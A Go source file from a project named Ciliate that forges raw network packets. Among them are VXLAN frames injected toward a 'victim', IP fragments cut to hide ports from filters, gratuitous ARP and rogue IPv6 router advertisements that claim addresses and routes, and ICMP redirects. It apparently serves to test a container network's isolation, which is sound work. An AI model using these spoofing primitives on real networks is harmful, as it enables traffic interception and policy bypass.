// SPDX-License-Identifier: Apache-2.0
// Copyright Authors of Ciliate

package main

import (
	"encoding/binary"
	"net"
	"net/netip"
	"slices"
)

// packet is an IP packet of the family of its addresses.
func (p plan) packet(from, to netip.Addr, protocol byte, body []byte) []byte {
	if from.Is4() {
		return ipv4(from, to, protocol, body, fragment{})
	}
	return ipv6(from, to, protocol, body)
}

func ethernet(to, from net.HardwareAddr, packet []byte) []byte {
	kind := []byte{0x08, 0x00}
	if packet[0]>>4 == 6 {
		kind = []byte{0x86, 0xdd}
	}
	return slices.Concat(to, from, kind, packet)
}

// fragment is a packet's place in a datagram; the zero value is a whole one.
type fragment struct {
	id     uint16
	offset int // bytes
	more   bool
}

func ipv4(from, to netip.Addr, protocol byte, body []byte, f fragment) []byte {
	header := make([]byte, 20)
	header[0], header[8], header[9] = 0x45, 64, protocol
	binary.BigEndian.PutUint16(header[2:], uint16(20+len(body)))
	binary.BigEndian.PutUint16(header[4:], f.id)
	flags := uint16(f.offset / 8)
	if f.more {
		flags |= 0x2000
	}
	binary.BigEndian.PutUint16(header[6:], flags)
	copy(header[12:], from.AsSlice())
	copy(header[16:], to.AsSlice())
	binary.BigEndian.PutUint16(header[10:], sum(header))
	return slices.Concat(header, body)
}

func ipv6(from, to netip.Addr, protocol byte, body []byte) []byte {
	header := make([]byte, 40)
	header[0], header[6], header[7] = 0x60, protocol, 255
	binary.BigEndian.PutUint16(header[4:], uint16(len(body)))
	copy(header[8:], from.AsSlice())
	copy(header[24:], to.AsSlice())
	return slices.Concat(header, body)
}

// datagram is a UDP datagram with its checksum.
func datagram(from, to netip.Addr, source, destination uint16, body []byte) []byte {
	header := make([]byte, 8)
	binary.BigEndian.PutUint16(header, source)
	binary.BigEndian.PutUint16(header[2:], destination)
	binary.BigEndian.PutUint16(header[4:], uint16(8+len(body)))
	whole := slices.Concat(header, body)
	binary.BigEndian.PutUint16(whole[6:], sum(slices.Concat(pseudo(from, to, 17, len(whole)), whole)))
	return whole
}

func pseudo(from, to netip.Addr, protocol byte, length int) []byte {
	tail := make([]byte, 8)
	binary.BigEndian.PutUint32(tail, uint32(length))
	tail[7] = protocol
	return slices.Concat(from.AsSlice(), to.AsSlice(), tail)
}

// sum is the Internet's checksum.
func sum(data []byte) uint16 {
	var total uint32
	for i, b := range data {
		if i%2 == 0 {
			total += uint32(b) << 8
		} else {
			total += uint32(b)
		}
	}
	for total>>16 != 0 {
		total = total&0xffff + total>>16
	}
	return ^uint16(total)
}

// vxlan is the payload of a tunnel packet: a frame to the victim that claims an identity.
func (p plan) vxlan() []byte {
	header := make([]byte, 8)
	header[0] = 0x08
	binary.BigEndian.PutUint32(header[4:], p.vni<<8)
	inner := p.packet(p.from, p.to, 17, datagram(p.from, p.to, victimPort, victimPort, []byte(p.text)))
	return slices.Concat(header, ethernet(net.HardwareAddr{2, 0, 0, 0, 0, 2}, net.HardwareAddr{2, 0, 0, 0, 0, 1}, inner))
}

// tunnelInFragments cuts a tunnel packet so that its later parts show no ports; its outer source is the pod's own.
func (p plan) tunnelInFragments() [][]byte {
	own := p.ownAddr()
	whole := datagram(own, p.peer, tunnelPort, tunnelPort, p.vxlan())
	const cut = 16
	var frames [][]byte
	for i, f := range []fragment{{id: 0x4242, more: true}, {id: 0x4242, offset: cut}} {
		part := whole[:cut]
		if i == 1 {
			part = whole[cut:]
		}
		frames = append(frames, ethernet(p.gateway, p.mac, ipv4(own, p.peer, 17, part, f)))
	}
	return frames
}

// ownAddr is the device's IPv4 address.
func (p plan) ownAddr() netip.Addr {
	addrs, err := p.iface.Addrs()
	if err != nil {
		return netip.IPv4Unspecified()
	}
	for _, a := range addrs {
		if prefix, err := netip.ParsePrefix(a.String()); err == nil && prefix.Addr().Is4() {
			return prefix.Addr()
		}
	}
	return netip.IPv4Unspecified()
}

// gratuitousARP claims the address "from" for the pod's MAC.
func (p plan) gratuitousARP() []byte {
	everyone := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	body := slices.Concat([]byte{0, 1, 8, 0, 6, 4, 0, 2}, p.mac, p.from.AsSlice(), everyone, p.from.AsSlice())
	return slices.Concat(everyone, p.mac, []byte{0x08, 0x06}, body)
}

// routerAdvertisement says that the pod is everyone's way out. Its source is the link-local address "from".
func (p plan) routerAdvertisement() []byte {
	to := netip.MustParseAddr("ff02::1")
	body := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(body[2:], sum(slices.Concat(pseudo(p.from, to, 58, len(body)), body)))
	return ethernet(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, p.mac, ipv6(p.from, to, 58, body))
}

// icmpRedirect tells "to" that its way to somewhere leads through "from".
func icmpRedirect(from, to netip.Addr) []byte {
	body := slices.Concat([]byte{5, 1, 0, 0}, from.AsSlice(), ipv4(to, from, 17, make([]byte, 8), fragment{}))
	binary.BigEndian.PutUint16(body[2:], sum(body))
	return body
}
